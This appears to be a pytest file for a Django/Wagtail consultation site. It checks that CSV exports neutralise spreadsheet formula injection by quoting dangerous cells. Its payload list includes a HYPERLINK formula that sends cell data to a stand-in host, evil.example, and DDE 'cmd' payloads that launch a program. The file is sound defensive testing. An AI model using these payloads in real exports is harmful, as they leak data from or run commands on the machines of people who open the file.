"""Every CSV the product writes neutralises cells a spreadsheet would run as a formula (OWASP CSV
injection): the committee's answers, the desk's audit log and report, Wagtail's own reports. Each
export is parsed back and the dangerous cell found as text, quoted."""

import csv
import io

import pytest
from django.core.cache import cache

from cms.exports import BOM, csv_response, neutralise
from consultation.models import Decision
from tests.community.review.helpers import FACTORIES
from tests.consultation.test_forms import ANSWER, make_form, post

pytestmark = pytest.mark.django_db

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&C2,"查看详情")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def parse(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith(BOM)
    return list(csv.reader(io.StringIO(body[1:])))


def form_answers(client, payload, xinghua, yinxing, committee_xinghua, superuser):
    cache.clear()
    page = make_form(yinxing)
    post(client, page, {**ANSWER, "您的建议": payload})
    client.force_login(superuser)
    return client.get(f"/admin/forms/submissions/{page.pk}/?export=csv")


def audit_log(client, payload, xinghua, yinxing, committee_xinghua, superuser):
    factory = FACTORIES["consultation.decision"][0]
    record = factory(xinghua, committee_xinghua)
    Decision.objects.filter(pk=record.pk).update(title=payload)
    record.history.update(title=payload)
    client.force_login(superuser)
    return client.get("/admin/review/audit/", {"model": "consultation.decision", "export": "csv"})


def report(client, payload, xinghua, yinxing, committee_xinghua, superuser):
    xinghua.title = payload
    xinghua.save_revision().publish()
    client.force_login(superuser)
    return client.get("/admin/review/report/", {"export": "csv"})


def wagtail_site_history(client, payload, xinghua, yinxing, committee_xinghua, superuser):
    xinghua.title = payload
    xinghua.save_revision(user=superuser, log_action=True).publish(user=superuser)
    client.force_login(superuser)
    return client.get("/admin/reports/site-history/", {"export": "csv"})


EXPORTS = [form_answers, audit_log, report, wagtail_site_history]


@pytest.mark.parametrize("payload", DANGEROUS)
@pytest.mark.parametrize("export", EXPORTS, ids=lambda f: f.__name__)
def test_export_writes_a_formula_as_text(
    client, export, payload, xinghua, yinxing, committee_xinghua, superuser
):
    response = export(client, payload, xinghua, yinxing, committee_xinghua, superuser)
    assert response.status_code == 200
    cells = [cell for row in parse(response) for cell in row]
    # A form's text field trims the leading tab or CR; what is left is quoted all the same.
    assert {f"'{payload}", f"'{payload.strip()}"} & set(cells)
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_the_file_is_named_for_any_characters():
    response = csv_response("居民意见-2026", ["a"], [["b"]])
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="export-2026.csv";')
    assert "filename*=UTF-8''%E5%B1%85" in disposition
    assert response["Content-Type"] == "text/csv; charset=utf-8"


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("普通文字", "普通文字"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),  # a number is a number, not text a resident typed
        (None, None),
    ],
)
def test_neutralise(value, written):
    assert neutralise(value) == written
